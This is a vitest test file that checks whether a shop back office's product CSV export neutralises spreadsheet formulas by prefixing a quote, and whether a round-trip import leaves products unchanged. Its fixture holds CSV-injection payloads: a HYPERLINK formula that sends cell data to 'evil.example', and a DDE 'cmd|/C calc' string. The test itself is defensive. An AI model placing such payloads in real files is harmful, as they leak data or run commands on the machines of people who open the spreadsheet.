/**
 * The back office's product CSV against spreadsheet formulas (issue 21): a product whose text
 * starts with `=`, `+`, `-`, `@` (or `'`) is exported with a leading `'`, and importing that
 * file unchanged gives every product back exactly as it was.
 */
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { products, users } from '../../db/schema.ts';
import { exportProductsCsv, importProductsCsv } from '../../server/domain/product-csv.ts';
import { createTestShop, type TestShop } from '../helpers/test-app.ts';

const HOSTILE = {
  name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
  description: "'Quoted' on purpose, as a shop might write it",
  tagLine: '@SUM(1+1)*cmd|/C calc!A0',
  dimensions: '-2+3 x 10 cm',
  warrantyPeriod: '+1 year',
};

describe('product CSV export and import with spreadsheet formulas', () => {
  let shop: TestShop;
  let productId = 0;

  beforeAll(async () => {
    shop = await createTestShop('pglite', { products: 5 });
    const [product] = await shop.database.db.select({ id: products.id }).from(products).limit(1);
    productId = product?.id ?? 0;
    await shop.database.db.update(products).set(HOSTILE).where(eq(products.id, productId));
  });
  afterAll(async () => {
    await shop?.close();
  });

  it('exports each such cell with a leading quote', async () => {
    const rows = parse(await exportProductsCsv(shop.database.db), { columns: true }) as Record<string, string>[];
    const [product] = await shop.database.db
      .select({ sku: products.sku })
      .from(products)
      .where(eq(products.id, productId));
    const row = rows.find((candidate) => candidate.sku === product?.sku);
    expect(row).toMatchObject({
      name: `'${HOSTILE.name}`,
      description: `'${HOSTILE.description}`,
      tagLine: `'${HOSTILE.tagLine}`,
      dimensions: `'${HOSTILE.dimensions}`,
      warrantyPeriod: `'${HOSTILE.warrantyPeriod}`,
    });
    for (const each of rows) {
      for (const value of Object.values(each)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('imports the unchanged export and every product stays exactly as it was', async () => {
    const before = await shop.database.db.select().from(products).orderBy(products.id);
    const [staff] = await shop.database.db
      .insert(users)
      .values({ email: 'csv-staff@example.com', firstName: 'Csv', lastName: 'Staff', role: 'admin' })
      .returning({ id: users.id, email: users.email });
    if (!staff) throw new Error('no staff row');
    const report = await importProductsCsv(shop.database.db, await exportProductsCsv(shop.database.db), {
      userId: staff.id,
      email: staff.email,
    });
    expect(report.rejected).toEqual([]);
    expect(report.applied).toBe(true);
    const after = await shop.database.db.select().from(products).orderBy(products.id);
    const comparable = (rows: typeof before) => rows.map(({ updatedAt: _updatedAt, ...row }) => row);
    expect(comparable(after)).toEqual(comparable(before));
    expect(after.find((row) => row.id === productId)).toMatchObject(HOSTILE);
  });
});
